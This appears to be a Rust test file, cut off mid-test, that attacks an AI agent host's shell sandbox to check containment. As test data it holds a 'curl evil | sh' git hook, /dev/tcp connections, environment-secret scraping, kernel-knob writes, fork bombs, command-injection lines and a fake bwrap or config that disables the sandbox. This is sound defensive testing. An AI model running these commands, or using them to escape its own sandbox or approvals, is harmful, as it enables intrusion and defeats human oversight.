//! The shell sandbox, attacked. Runs where bubblewrap works (CI installs it);
//! elsewhere each test prints why it was skipped. Every test asserts the
//! effect on the host, not an exit code.

use crate::support;

use serde_json::json;
use std::os::unix::fs::MetadataExt;
use std::path::{Path, PathBuf};
use support::{Project, assert_err};

/// The default shell set: sandboxed, network blocked.
fn sandboxed() -> Option<Project> {
    support::sandbox_works().then(|| Project::new().config("agents:\n  a:\n    tools:\n      shell:\n      code:\n"))
}

/// Runs git in `dir` (no system config, an identity for commits, local
/// submodules allowed), asserting it succeeded; its output.
fn git(args: &[&str], dir: &Path) -> String {
    let out = std::process::Command::new("git")
        .args([
            "-c",
            "protocol.file.allow=always",
            "-c",
            "user.name=t",
            "-c",
            "user.email=t@t",
        ])
        .args(args)
        .current_dir(dir)
        .env("GIT_CONFIG_NOSYSTEM", "1")
        .output()
        .unwrap();
    assert!(
        out.status.success(),
        "git {args:?}: {}",
        String::from_utf8_lossy(&out.stderr)
    );
    String::from_utf8_lossy(&out.stdout).into_owned()
}

/// Writes each `(path, contents)` below `dir`, making the directories on
/// the way.
fn plant(dir: &Path, files: &[(&str, &str)]) {
    for (rel, text) in files {
        std::fs::create_dir_all(dir.join(rel).parent().unwrap()).unwrap();
        std::fs::write(dir.join(rel), text).unwrap();
    }
}

fn sh(p: &Project, command: &str) -> support::Result {
    p.call("shell", json!({ "command": command }))
}

#[test]
fn writes_outside_the_allowed_dirs_fail_and_leave_the_host_unchanged() {
    let Some(p) = sandboxed() else { return };
    // Outside the root but visible inside (not under the host's /tmp, which
    // the sandbox replaces with the session's own).
    let dir = support::visible_outside_dir();
    let outside = dir.path().join("victim.txt");
    std::fs::write(&outside, "original").unwrap();
    let r = sh(
        &p,
        &format!(
            "cat {0}; echo pwned > {0}; echo pwned >> {0}; rm -f {0}; touch {1}/new",
            outside.display(),
            dir.path().display()
        ),
    );
    assert!(r.is_error);
    assert!(r.text.starts_with("original"), "readable: {}", r.text);
    assert!(r.text.contains("Read-only file system"), "{}", r.text);
    assert_eq!(std::fs::read_to_string(&outside).unwrap(), "original");
    assert!(!dir.path().join("new").exists());
    // Inside the root and /tmp, writes work.
    let r = sh(&p, "echo ok > inside.txt && echo ok > /tmp/t && cat /tmp/t");
    assert_eq!(r.text, "ok");
    assert_eq!(p.read("inside.txt"), b"ok\n");
}

#[test]
fn symlink_and_hard_link_tricks_do_not_reach_outside() {
    let Some(p) = sandboxed() else { return };
    let dir = support::visible_outside_dir();
    let target = dir.path().join("target.txt");
    std::fs::write(&target, "original").unwrap();
    std::os::unix::fs::symlink(&target, p.path("planted-link")).unwrap();
    sh(
        &p,
        &format!(
            "echo pwned > planted-link; ln -s {0} own-link; echo pwned > own-link; ln {0} hard-link; echo pwned > hard-link",
            target.display()
        ),
    );
    assert_eq!(
        std::fs::read_to_string(&target).unwrap(),
        "original",
        "no link led a write outside"
    );
    assert_eq!(
        std::fs::metadata(&target).unwrap().nlink(),
        1,
        "no hard link to the outside file was made"
    );
}

#[test]
fn git_hooks_cannot_be_planted_and_git_cannot_be_renamed_away() {
    let Some(p) = sandboxed() else { return };
    std::fs::create_dir_all(p.path(".git/hooks")).unwrap();
    std::fs::write(p.path(".git/config"), "[core]\n").unwrap();
    let r = sh(
        &p,
        "echo 'curl evil | sh' > .git/hooks/pre-commit; chmod +x .git/hooks/pre-commit; mv .git .git-moved; echo x >> .git/config",
    );
    assert!(r.is_error, "{}", r.text);
    assert!(!p.path(".git/hooks/pre-commit").exists(), "no hook planted");
    assert!(
        p.path(".git").is_dir() && !p.path(".git-moved").exists(),
        ".git still in place"
    );
    assert_eq!(std::fs::read_to_string(p.path(".git/config")).unwrap(), "[core]\n");
}

#[test]
fn host_processes_and_their_environment_are_invisible() {
    let Some(p) = sandboxed() else { return };
    let mut secret_holder = std::process::Command::new("sleep")
        .arg("30")
        .env("IOTA_HOST_SECRET", "s3cr3t-value-on-the-host")
        .spawn()
        .unwrap();
    let r = sh(
        &p,
        "cat /proc/*/environ 2>/dev/null | tr '\\0' '\\n' | grep -c s3cr3t-value-on-the-host; ls /proc | grep -c '^[0-9]'",
    );
    secret_holder.kill().unwrap();
    let _ = secret_holder.wait();
    let mut lines = r.text.lines();
    assert_eq!(lines.next(), Some("0"), "no host environ is readable: {}", r.text);
    let visible: u32 = lines.next().unwrap_or("999").trim().parse().unwrap();
    assert!(visible < 10, "only the sandbox's own processes are visible ({visible})");
}

#[test]
fn the_network_is_blocked_loopback_and_dns_included() {
    let Some(p) = sandboxed() else { return };
    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let port = listener.local_addr().unwrap().port();
    listener.set_nonblocking(true).unwrap();
    let r = sh(
        &p,
        &format!(
            "(echo hello > /dev/tcp/127.0.0.1/{port}) 2>&1; getent hosts localhost.localdomain example.com || echo no-dns"
        ),
    );
    assert!(listener.accept().is_err(), "no connection reached the host's listener");
    assert!(
        r.text.contains("no-dns") || !r.text.contains("example.com"),
        "{}",
        r.text
    );
}

#[test]
fn host_unix_sockets_path_and_abstract_are_unreachable() {
    let Some(p) = sandboxed() else { return };
    use std::os::linux::net::SocketAddrExt;
    let path = std::env::temp_dir().join(format!("iota-sandbox-test-{}.sock", std::process::id()));
    let _ = std::fs::remove_file(&path);
    let on_path = std::os::unix::net::UnixListener::bind(&path).unwrap();
    let name = format!("iota-sandbox-test-{}", std::process::id());
    let abstract_addr = std::os::unix::net::SocketAddr::from_abstract_name(name.as_bytes()).unwrap();
    let in_abstract = std::os::unix::net::UnixListener::bind_addr(&abstract_addr).unwrap();
    on_path.set_nonblocking(true).unwrap();
    in_abstract.set_nonblocking(true).unwrap();
    let script = format!(
        "import socket\nfor a in ['{}', '\\0{name}']:\n    s = socket.socket(socket.AF_UNIX)\n    try:\n        s.connect(a); s.send(b'x'); print('connected')\n    except OSError as e:\n        print('refused', e.errno)\n",
        path.display()
    );
    let r = sh(
        &p,
        &format!("python3 -c \"$(printf '%s' '{}' | base64 -d)\"", base64(&script)),
    );
    assert!(
        on_path.accept().is_err() && in_abstract.accept().is_err(),
        "nothing connected"
    );
    assert!(!r.text.contains("connected"), "{}", r.text);
    // Both probes ran (no python3 inside would also print no "connected").
    assert_eq!(r.text.matches("refused").count(), 2, "{}", r.text);
    let _ = std::fs::remove_file(&path);
}

#[test]
fn a_root_host_keeps_no_capabilities_inside() {
    let Some(p) = sandboxed() else { return };
    let r = sh(
        &p,
        "grep -E '^(CapEff|CapPrm|CapBnd|NoNewPrivs)' /proc/self/status; mount -o remount,rw / 2>&1 && echo REMOUNTED; touch /usr/iota-probe-$PPID 2>&1; ls -d /usr/iota-probe-* 2>&1; true",
    );
    assert!(r.text.contains("CapEff:\t0000000000000000"), "{}", r.text);
    assert!(r.text.contains("CapPrm:\t0000000000000000"), "{}", r.text);
    assert!(
        r.text.contains("NoNewPrivs:\t1"),
        "PR_GET_NO_NEW_PRIVS is set: {}",
        r.text
    );
    assert!(!r.text.contains("REMOUNTED"), "{}", r.text);
    assert!(
        r.text.contains("/usr/iota-probe-*': No such file"),
        "nothing was created in /usr: {}",
        r.text
    );
}

#[test]
fn private_tmp_per_session() {
    let Some(p) = sandboxed() else { return };
    let tag = support::run_tag();
    let host_file = std::env::temp_dir().join(format!("iota-host-visible-{tag}"));
    std::fs::write(&host_file, "host").unwrap();
    let r = sh(
        &p,
        &format!(
            "ls {} 2>&1; echo mine > /tmp/session-file-{tag}; cat /tmp/session-file-{tag}",
            host_file.display()
        ),
    );
    assert!(
        r.text.contains("No such file") && r.text.ends_with("mine"),
        "the host's /tmp is not visible, the session's is: {}",
        r.text
    );
    assert!(
        !std::env::temp_dir().join(format!("session-file-{tag}")).exists(),
        "the session's /tmp is not the host's"
    );
    let _ = std::fs::remove_file(host_file);
}

/// Host files whose contents must not change whatever a sandboxed command
/// writes: the kernel's crash handler, which runs as the host's root.
#[test]
fn kernel_knobs_are_read_only_inside() {
    let Some(p) = sandboxed() else { return };
    let core_pattern = std::fs::read_to_string("/proc/sys/kernel/core_pattern").unwrap();
    let thp = std::fs::read_to_string("/sys/kernel/mm/transparent_hugepage/enabled").ok();
    let proof = p.outside().join("core-handler-ran");
    let r = sh(
        &p,
        &format!(
            "echo '|/bin/touch {}' > /proc/sys/kernel/core_pattern; echo 1 > /proc/sys/vm/drop_caches; echo b > /proc/sysrq-trigger; echo 1 > /sys/kernel/mm/ksm/run; echo never > /sys/kernel/mm/transparent_hugepage/enabled; true",
            proof.display()
        ),
    );
    let now = std::fs::read_to_string("/proc/sys/kernel/core_pattern").unwrap();
    if now != core_pattern {
        // Put the host back before failing.
        let _ = std::fs::write("/proc/sys/kernel/core_pattern", &core_pattern);
    }
    assert_eq!(now, core_pattern, "core_pattern unchanged: {}", r.text);
    assert_eq!(
        std::fs::read_to_string("/sys/kernel/mm/transparent_hugepage/enabled").ok(),
        thp
    );
    // Every one of the five writes failed inside.
    let refusals = r
        .text
        .lines()
        .filter(|l| {
            [
                "Read-only file system",
                "No such file or directory",
                "Permission denied",
            ]
            .iter()
            .any(|e| l.ends_with(e))
        })
        .count();
    assert_eq!(refusals, 5, "{}", r.text);
}

/// One probe per refused system call, through Python's ctypes, in the
/// sandbox and (as a control) under bubblewrap with the same namespaces but
/// no filter: each call the filter refuses must fail with its errno inside,
/// and those an unprivileged process can normally make must succeed in the
/// control, so the refusal is the filter's doing.
#[test]
fn the_seccomp_filter_refuses_each_listed_call() {
    use iota_host::internals::find_on_path;
    let Some(p) = sandboxed() else { return };
    let libc_numbers = [
        ("ptrace", libc::SYS_ptrace),
        ("process_vm_readv", libc::SYS_process_vm_readv),
        ("process_vm_writev", libc::SYS_process_vm_writev),
        ("io_uring_setup", libc::SYS_io_uring_setup),
        ("io_uring_enter", libc::SYS_io_uring_enter),
        ("io_uring_register", libc::SYS_io_uring_register),
        ("bpf", libc::SYS_bpf),
        ("perf_event_open", libc::SYS_perf_event_open),
        ("keyctl", libc::SYS_keyctl),
        ("add_key", libc::SYS_add_key),
        ("request_key", libc::SYS_request_key),
        ("mount", libc::SYS_mount),
        ("umount2", libc::SYS_umount2),
        ("pivot_root", libc::SYS_pivot_root),
        ("move_mount", libc::SYS_move_mount),
        ("open_tree", libc::SYS_open_tree),
        ("fsopen", libc::SYS_fsopen),
        ("fsconfig", libc::SYS_fsconfig),
        ("fsmount", libc::SYS_fsmount),
        ("fspick", libc::SYS_fspick),
        ("mount_setattr", libc::SYS_mount_setattr),
        ("unshare", libc::SYS_unshare),
        ("setns", libc::SYS_setns),
        ("kexec_load", libc::SYS_kexec_load),
        ("kexec_file_load", libc::SYS_kexec_file_load),
        ("init_module", libc::SYS_init_module),
        ("finit_module", libc::SYS_finit_module),
        ("delete_module", libc::SYS_delete_module),
        ("open_by_handle_at", libc::SYS_open_by_handle_at),
        ("userfaultfd", libc::SYS_userfaultfd),
        ("clone3", libc::SYS_clone3),
        ("clone", libc::SYS_clone),
        ("socket", libc::SYS_socket),
        ("ioctl", libc::SYS_ioctl),
    ];
    let numbers: String = libc_numbers
        .iter()
        .map(|(name, nr)| format!("'{name}': {nr}, "))
        .collect();
    // Arguments are harmless: the calls that would do something only act on
    // the probe itself (TRACEME, its own memory, a new user namespace, a
    // keyring lookup, an io_uring of one entry).
    let script = format!(
        r#"import ctypes, os, pty, termios
libc = ctypes.CDLL(None, use_errno=True)
NR = {{{numbers}}}
buf = ctypes.create_string_buffer(8)
iov = (ctypes.c_void_p * 2)(ctypes.cast(buf, ctypes.c_void_p), 8)
params = ctypes.create_string_buffer(120)
attr = ctypes.create_string_buffer(128)
master, slave = pty.openpty()
probes = {{
  'ptrace': (0, 0, 0, 0),
  'process_vm_readv': (os.getpid(), ctypes.addressof(iov), 1, ctypes.addressof(iov), 1, 0),
  'process_vm_writev': (os.getpid(), ctypes.addressof(iov), 1, ctypes.addressof(iov), 1, 0),
  'io_uring_setup': (1, params),
  'io_uring_enter': (-1, 0, 0, 0, 0, 0),
  'io_uring_register': (-1, 0, 0, 0),
  'bpf': (0, attr, 128),
  'perf_event_open': (attr, 0, -1, -1, 0),
  'keyctl': (0, -3, 0),
  'add_key': (b'user', b'iota-probe', b'x', 1, -3),
  'request_key': (b'user', b'iota-probe', None, 0),
  'mount': (b'none', b'/mnt', b'tmpfs', 0, None),
  'umount2': (b'/proc', 0),
  'pivot_root': (b'/', b'/'),
  'move_mount': (-1, b'', -1, b'', 0),
  'open_tree': (-1, b'/', 0),
  'fsopen': (b'tmpfs', 0),
  'fsconfig': (-1, 0, None, None, 0),
  'fsmount': (-1, 0, 0),
  'fspick': (-1, b'/', 0),
  'mount_setattr': (-1, b'/', 0, attr, 32),
  'unshare': (0x10000000,),
  'setns': (-1, 0),
  'kexec_load': (0, 0, None, 0),
  'kexec_file_load': (-1, -1, 0, None, 0),
  'init_module': (None, 0, b''),
  'finit_module': (-1, b'', 0),
  'delete_module': (b'iota_probe', 0),
  'open_by_handle_at': (-1, attr, 0),
  'userfaultfd': (0,),
  'clone3': (attr, 64),
  'clone': (0x10000000 | 17, 0, 0, 0, 0),
  'socket': (2, 1, 0),
  'ioctl': (slave, termios.TIOCSTI, ctypes.c_char_p(b'x')),
}}
for name, args in probes.items():
  ctypes.set_errno(0)
  r = libc.syscall(NR[name], *args)
  e = ctypes.get_errno()
  if r == 0 and name in ('clone', 'clone3'): os._exit(0)
  print(name, 'ok' if r >= 0 else 'errno', e if r < 0 else r)
"#
    );
    let encoded = base64(&script);
    let r = sh(
        &p,
        &format!("printf '%s' '{encoded}' | base64 -d > /tmp/probe.py && python3 /tmp/probe.py"),
    );
    assert!(!r.is_error, "{}", r.text);
    let results: std::collections::HashMap<&str, (&str, i64)> = r
        .text
        .lines()
        .filter_map(|l| {
            let mut f = l.split(' ');
            Some((f.next()?, (f.next()?, f.next()?.parse().ok()?)))
        })
        .collect();
    assert_eq!(results.len(), libc_numbers.len(), "{}", r.text);
    for (name, _) in &libc_numbers {
        let want = if *name == "clone3" { libc::ENOSYS } else { libc::EPERM };
        assert_eq!(
            results[name],
            ("errno", i64::from(want)),
            "{name} refused by the filter: {}",
            r.text
        );
    }
    // The control: the same namespaces without the filter.
    let bwrap = find_on_path("bwrap").unwrap();
    let dir = tempfile::tempdir().unwrap();
    std::fs::write(dir.path().join("probe.py"), &script).unwrap();
    let control = std::process::Command::new(bwrap)
        .args(["--unshare-user", "--unshare-pid", "--unshare-net", "--cap-drop", "ALL"])
        .args(["--ro-bind", "/", "/", "--dev", "/dev", "--proc", "/proc", "--bind"])
        .arg(dir.path())
        .arg("/tmp")
        .args(["python3", "/tmp/probe.py"])
        .output()
        .unwrap();
    let control = String::from_utf8_lossy(&control.stdout);
    for allowed in ["socket", "unshare", "clone3", "keyctl"] {
        assert!(
            control.lines().any(|l| l.starts_with(&format!("{allowed} ok"))),
            "{allowed} works without the filter, so its refusal above is the filter's: {control}"
        );
    }
}

/// Secret-looking variables of the host stay out; named ones pass; nothing
/// inside names the host's pid.
#[test]
fn secrets_in_the_host_environment_stay_out() {
    let Some(p) = sandboxed() else { return };
    let p = p.config(
        "agents:\n  a:\n    tools:\n      shell:\n        env:\n          pass: [GITHUB_TOKEN]\n          set: {BUILD_MODE: fast}\n",
    );
    let secrets = [
        ("ANTHROPIC_API_KEY", "sk-ant-iota-test-1"),
        ("AWS_SECRET_ACCESS_KEY", "aws-iota-test-2"),
        ("SSH_AUTH_SOCK", "/run/iota-test-3.sock"),
        ("OPENAI_API_KEY", "sk-iota-test-4"),
        ("DB_PASSWORD", "iota-test-5"),
    ];
    let mut command = p.command();
    for (name, value) in secrets {
        command.env(name, value);
    }
    let child = command
        .env("GITHUB_TOKEN", "ghp_iota_test_passed")
        .env("IOTA_TEST_PLAIN", "plain-value")
        .args(["call", "--json", "shell", r#"{"command":"env"}"#])
        .stdout(std::process::Stdio::piped())
        .spawn()
        .unwrap();
    let host_pid = child.id();
    let out = child.wait_with_output().unwrap();
    let text = String::from_utf8_lossy(&out.stdout).to_string();
    for (name, value) in secrets {
        assert!(!text.contains(value), "{name} leaked: {text}");
    }
    assert!(text.contains("GITHUB_TOKEN=ghp_iota_test_passed"), "{text}");
    assert!(text.contains("BUILD_MODE=fast"), "{text}");
    assert!(!text.contains("IOTA_"), "no host variable of iota's, no marker: {text}");
    assert!(
        !text
            .split(|c: char| !c.is_ascii_digit())
            .any(|n| n == host_pid.to_string()),
        "nothing inside reveals the host's pid {host_pid}: {text}"
    );
}

/// A fork bomb meets the process bound; the host keeps working.
#[test]
fn processes_are_bounded_inside() {
    let Some(p) = sandboxed() else { return };
    let p = p.config("agents:\n  a:\n    tools:\n      shell:\n        max_processes: 24\n");
    let script = "import os, time\nn = 0\ntry:\n    while n < 200:\n        if os.fork() == 0:\n            time.sleep(60); os._exit(0)\n        n += 1\nexcept OSError as e:\n    print('refused after', n, e.errno)\n";
    let r = p.call(
        "shell",
        json!({"command": format!("printf '%s' '{}' | base64 -d | python3 -", base64(script)), "timeout": 20}),
    );
    let created: u32 = r
        .text
        .strip_prefix("refused after ")
        .and_then(|rest| rest.split(' ').next())
        .and_then(|n| n.parse().ok())
        .unwrap_or_else(|| panic!("the fork loop was stopped: {}", r.text));
    assert!(created < 24, "at most the bound: {created}");
    // A real fork bomb ends at its timeout, and the next command runs.
    let r = p.calls(&[
        ("shell", json!({"command": "b() { b | b & }; b", "timeout": 3})),
        ("shell", json!({"command": "echo alive"})),
    ]);
    assert_eq!(r[1].text, "alive");
}

/// Where the root has no repository (or no `.iota`), none can be made there
/// from inside: `git init` plus an fsmonitor command would run on the host at
/// the user's next `git status`.
#[test]
fn git_and_iota_cannot_be_planted_at_a_root_without_them() {
    let Some(p) = sandboxed() else { return };
    let proof = p.outside().join("fsmonitor-ran");
    let r = sh(
        &p,
        &format!(
            "git init -q . 2>&1; git config core.fsmonitor 'touch {}' 2>&1; mkdir -p .iota 2>&1; echo 'agents: {{}}' > .iota/config.yaml; rmdir .git 2>&1; mv .git g 2>&1; true",
            proof.display()
        ),
    );
    assert!(!p.path(".git").exists(), "no repository left at the root: {}", r.text);
    assert!(!p.path(".iota").exists(), "no .iota left at the root: {}", r.text);
    assert!(!p.path("g").exists());
    let status = std::process::Command::new("git")
        .arg("status")
        .current_dir(p.root())
        .env("GIT_CEILING_DIRECTORIES", p.root().parent().unwrap())
        .output()
        .unwrap();
    assert!(!status.status.success(), "no repository for git to find");
    assert!(!proof.exists(), "no command planted for the host's git");
}

/// Lines that once ran a second command on the host through the iota
/// exception, and their family: each must stay in the sandbox. The set runs
/// every call unasked (`auto_run`), so a line mistaken for an iota call would
/// run outside at once; each payload creates a proof file in a home directory
/// the sandbox can read but not write.
#[test]
fn lines_that_are_not_one_simple_iota_call_stay_in_the_sandbox() {
    let Some(p) = sandboxed() else { return };
    let p = p.auto_run();
    let home = support::visible_outside_dir();
    let bin = support::BIN;
    // The `.venv/bin/eval` trick: a builtin's name on PATH pointing at the binary.
    std::fs::create_dir_all(p.path(".venv/bin")).unwrap();
    for builtin in ["eval", "exec", "command", "builtin", "source", "time"] {
        std::os::unix::fs::symlink(bin, p.path(&format!(".venv/bin/{builtin}"))).unwrap();
    }
    // The arithmetic trick: the model picks a working directory named for its payload.
    std::fs::create_dir_all(p.path("a[$(cd&&touch proof-arith)]")).unwrap();
    let lines = [
        format!("{bin} $'\\'' ; cd&&touch proof-ansi-c ; # '"),
        format!("{bin} $\"x\" ; cd&&touch proof-locale"),
        format!("{bin} --version <(cd&&touch proof-procsub-in)"),
        format!("{bin} --version >(cd&&touch proof-procsub-out)"),
        format!("{bin} --version > >(cd&&touch proof-procsub-redirect)"),
        format!("{bin} $(cd&&touch proof-cmdsub)"),
        format!("{bin} `cd&&touch proof-backtick`"),
        format!("{bin} \"$(cd&&touch proof-quoted-cmdsub)\""),
        format!("{bin} ${{X:=$(cd&&touch proof-param)}}"),
        format!("{bin} $((1+$(cd&&touch proof-arith-expansion)))"),
        format!("{bin} {{a,$(cd&&touch proof-brace)}}"),
        format!("{bin} <<< $(cd&&touch proof-herestring)"),
        format!("{bin} --version\ncd&&touch proof-newline"),
        format!("{bin} --version; cd&&touch proof-chain"),
        format!("{bin} --version | (cd&&touch proof-pipe)"),
        format!("{bin} --version & cd&&touch proof-background"),
        format!("{bin} --version > {}/proof-redirect-file", home.path().display()),
        format!("{bin} --version >> {}/proof-append-file", home.path().display()),
        format!("{bin} --version &> {}/proof-both-file", home.path().display()),
        "eval 'cd&&touch proof-eval'".to_string(),
        "exec bash -c 'cd&&touch proof-exec'".to_string(),
        "command bash -c 'cd&&touch proof-command'".to_string(),
        "builtin eval 'cd&&touch proof-builtin'".to_string(),
        "time bash -c 'cd&&touch proof-time'".to_string(),
        format!("X=1 {bin} --version; cd&&touch proof-assignment"),
        format!("coproc {bin} --version; cd&&touch proof-coproc"),
    ];
    let path = format!("{}:{}", p.path(".venv/bin").display(), std::env::var("PATH").unwrap());
    let mut args = vec!["call".to_string(), "--json".to_string()];
    for line in &lines {
        args.push("shell".into());
        args.push(json!({ "command": line }).to_string());
    }
    args.push("shell".into());
    args.push(
        json!({ "command": format!("{bin} $[ ${{PWD##*/}} ]"), "cwd": "a[$(cd&&touch proof-arith)]" }).to_string(),
    );
    let out = p
        .command()
        .env("HOME", home.path())
        .env("PATH", &path)
        .args(&args)
        .output()
        .unwrap();
    let stdout = String::from_utf8_lossy(&out.stdout);
    for line in stdout.lines() {
        let v: serde_json::Value = serde_json::from_str(line).unwrap();
        assert!(
            !v["header"].as_str().unwrap().ends_with("(outside the sandbox)"),
            "classified as an iota call: {line}"
        );
    }
    assert_eq!(stdout.lines().count(), lines.len() + 1, "{stdout}");
    // (The cache directory is the spec's, made for the sandbox if missing.)
    let proofs: Vec<_> = std::fs::read_dir(home.path())
        .unwrap()
        .flatten()
        .map(|e| e.file_name())
        .filter(|n| n != ".cache")
        .collect();
    assert!(proofs.is_empty(), "ran on the host: {proofs:?}");
    // The sandbox wrote none either (home is read-only inside); nor the root.
    let in_root: Vec<_> = std::fs::read_dir(p.root())
        .unwrap()
        .flatten()
        .map(|e| e.file_name().to_string_lossy().into_owned())
        .filter(|n| n.starts_with("proof"))
        .collect();
    assert!(in_root.is_empty(), "{in_root:?}");
}

/// Session approval of an iota call is for that exact line: another line,
/// even a qualifying one, is asked again. The proof that a line ran outside
/// is the compiled component a `call` leaves in the cache, which no sandboxed
/// command can write.
#[test]
fn allowing_an_iota_line_for_the_session_allows_that_line_only() {
    let Some(p) = sandboxed() else { return };
    let p = p
        .config("agents:\n  a:\n    tools:\n      shell:\n      ask: false\n")
        .with_private_cache()
        .answers(r#"["session"]"#);
    p.write("a.txt", "hello\n");
    let bin = support::BIN;
    let benign = format!("{bin} --version");
    let other = format!("{bin} call read_file '{{\"path\":\"a.txt\"}}'");
    let r = p.calls(&[
        ("shell", json!({ "command": benign })),
        ("shell", json!({ "command": other })),
        ("shell", json!({ "command": benign })),
    ]);
    assert!(r[0].text.starts_with("iota-host "), "{}", r[0].text);
    assert_err(&r[1], "shell was not executed: the user denied it.");
    assert_eq!(r[2].text, r[0].text, "the approved line again runs unasked");
    let compiled = std::fs::read_dir(p.cache())
        .map(|d| {
            d.flatten()
                .filter(|e| e.path().extension().is_some_and(|x| x == "cwasm"))
                .count()
        })
        .unwrap_or(0);
    assert_eq!(compiled, 0, "the other line never ran");
}

/// What a model's command line may not choose for the iota-host it starts:
/// a config (say, `sandbox: off` it wrote itself), scripted approvals, an
/// audit file anywhere, a root outside its project.
#[test]
fn an_iota_call_cannot_choose_its_own_config_answers_audit_or_root() {
    let Some(p) = sandboxed() else { return };
    let p = p.auto_run();
    let home = support::visible_outside_dir();
    p.write(
        "evil.yaml",
        "agents:\n  default:\n    tools:\n      shell: {sandbox: off, auto_run: true}\n      code: {auto_write: true}\n",
    );
    p.write("answers.json", r#"["session", "session", "session"]"#);
    std::fs::create_dir_all(p.path(".git")).unwrap();
    let proof = home.path().join("proof");
    let inner = json!({"command": format!("touch {}", proof.display())}).to_string();
    let write = json!({"path": proof.display().to_string(), "content": "x"}).to_string();
    let bin = support::BIN;
    let lines = [
        (format!("{bin} --config evil.yaml call shell '{inner}'"), "--config"),
        (
            format!("{bin} --answers answers.json call shell '{inner}'"),
            "--answers",
        ),
        (format!("{bin} --audit {} tools", proof.display()), "--audit"),
        (format!("{bin} --interactive call shell '{inner}'"), "--interactive"),
        (
            format!("{bin} --root / call write_file '{write}'"),
            "the project root / is outside",
        ),
        (format!("{bin} --root .git tools"), "inside its .git, .iota or HEAD"),
        (format!("{bin} inspect /etc/passwd"), "inspect reads only files inside"),
        // A project config the sandbox could have written is not read
        // either: the child's shell stays sandboxed, and its touch fails.
        (format!("{bin} call shell '{inner}'"), "Read-only file system"),
    ];
    p.write(
        ".iota/config.yaml",
        "agents:\n  default:\n    tools:\n      shell: {sandbox: off, auto_run: true}\n",
    );
    let calls: Vec<(&str, serde_json::Value)> = lines
        .iter()
        .map(|(line, _)| ("shell", json!({ "command": line })))
        .collect();
    let results = p.calls(&calls);
    for ((line, why), r) in lines.iter().zip(&results) {
        assert!(r.header.ends_with("(outside the sandbox)"), "{line}");
        assert!(r.is_error && r.text.contains(why), "{line}: {}", r.text);
    }
    assert!(!proof.exists(), "nothing ran on the host");
}

fn base64(text: &str) -> String {
    const TABLE: &[u8; 64] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    let bytes = text.as_bytes();
    let mut out = String::new();
    for chunk in bytes.chunks(3) {
        let b = [chunk[0], *chunk.get(1).unwrap_or(&0), *chunk.get(2).unwrap_or(&0)];
        let n = (u32::from(b[0]) << 16) | (u32::from(b[1]) << 8) | u32::from(b[2]);
        for i in 0..4 {
            if i <= chunk.len() {
                out.push(TABLE[(n >> (18 - 6 * i) & 63) as usize] as char);
            } else {
                out.push('=');
            }
        }
    }
    out
}

/// A `bwrap` planted on PATH inside the project (an activated `.venv/bin`)
/// is never the sandbox: the next session stays sandboxed.
#[test]
fn a_bwrap_planted_on_path_is_not_the_sandbox() {
    let Some(p) = sandboxed() else { return };
    let p = p.auto_run();
    let outside = support::visible_outside_dir();
    let path = format!("{}:{}", p.path(".venv/bin").display(), std::env::var("PATH").unwrap());
    let run = |command: &str| {
        let out = p
            .command()
            .env("PATH", &path)
            .args(["call", "shell", &json!({ "command": command }).to_string()])
            .output()
            .unwrap();
        String::from_utf8_lossy(&out.stdout).into_owned()
    };
    // A fake that drops every option and runs the command as it is.
    run(
        "mkdir -p .venv/bin && printf '#!/bin/sh\\nwhile [ \"$1\" != -- ]; do shift; done; shift; exec \"$@\"\\n' > .venv/bin/bwrap && chmod +x .venv/bin/bwrap",
    );
    assert!(p.path(".venv/bin/bwrap").exists());
    let text = run(&format!("touch {}/escaped", outside.path().display()));
    assert!(text.contains("Read-only file system"), "{text}");
    assert!(
        !outside.path().join("escaped").exists(),
        "the planted bwrap was not used"
    );
}

/// An iota child (a line that leaves the sandbox, run by this binary)
/// dies with its host, however the host dies, and leaves nothing in the
/// temp directory: with `kill -9` of the host, what the child's sandbox
/// wrote to its /tmp goes at the next host's command; stopped by its
/// parent's timeout, its directory goes when the parent's call ends.
#[test]
fn an_iota_child_dies_with_its_host_and_leaves_nothing_in_tmp() {
    let Some(p) = sandboxed() else { return };
    let p = p.auto_run();
    let temp = tempfile::tempdir().unwrap();
    let scratch_dirs = || scratch_dirs_in(temp.path());
    let tag = std::process::id();
    let child_line = |inner: &str| {
        let inner = json!({ "command": inner }).to_string();
        format!("{} --non-interactive call shell '{inner}'", support::BIN)
    };
    let parent = |outer: serde_json::Value| {
        let mut cmd = p.command();
        cmd.env("TMPDIR", temp.path())
            .args(["call", "shell"])
            .arg(outer.to_string());
        cmd
    };
    // The host killed while its child runs.
    let mut host =
        parent(json!({"command": child_line(&format!("head -c 3000000 /dev/zero > /tmp/big; sleep 601.{tag}"))}))
            .stdout(std::process::Stdio::null())
            .stderr(std::process::Stdio::null())
            .spawn()
            .unwrap();
    wait_for(&|| !support::processes_matching(&format!("sleep 601.{tag}")).is_empty());
    host.kill().unwrap();
    host.wait().unwrap();
    wait_for(&|| support::processes_matching(&format!("sleep 601.{tag}")).is_empty());
    shell_true_with_temp(&p, temp.path());
    assert_eq!(
        scratch_dirs(),
        Vec::<std::path::PathBuf>::new(),
        "the child's /tmp is gone"
    );
    // The child stopped by its parent's timeout.
    let out = parent(json!({
        "command": child_line(&format!("head -c 3000000 /dev/zero > /tmp/big; sleep 602.{tag}")),
        "timeout": 3
    }))
    .output()
    .unwrap();
    let text = String::from_utf8_lossy(&out.stdout);
    assert!(text.contains("timed out"), "{text}");
    assert!(support::processes_matching(&format!("sleep 602.{tag}")).is_empty());
    assert_eq!(
        scratch_dirs(),
        Vec::<std::path::PathBuf>::new(),
        "nothing left when the parent is done"
    );
}

/// A bubblewrap that is installed but cannot make a sandbox here (a
/// library missing, user namespaces forbidden) leaves the set unsandboxed,
/// as the spec says for a machine without one; the host says so at every
/// start, naming the binary, rather than leaving the user to find out.
#[test]
fn an_installed_bwrap_that_cannot_sandbox_is_said_at_start() {
    let Some(p) = sandboxed() else { return };
    let p = p.auto_run();
    // Where a trusted binary may be: not under /tmp or /var/tmp.
    let bin = tempfile::tempdir_in(env!("CARGO_TARGET_TMPDIR")).unwrap();
    let bwrap = bin.path().join("bwrap");
    std::fs::write(
        &bwrap,
        "#!/bin/sh\necho 'bwrap: error while loading shared libraries' >&2\nexit 127\n",
    )
    .unwrap();
    use std::os::unix::fs::PermissionsExt;
    std::fs::set_permissions(&bwrap, std::fs::Permissions::from_mode(0o755)).unwrap();
    let path = format!("{}:{}", bin.path().display(), std::env::var("PATH").unwrap());
    for _ in 0..2 {
        let out = p
            .command()
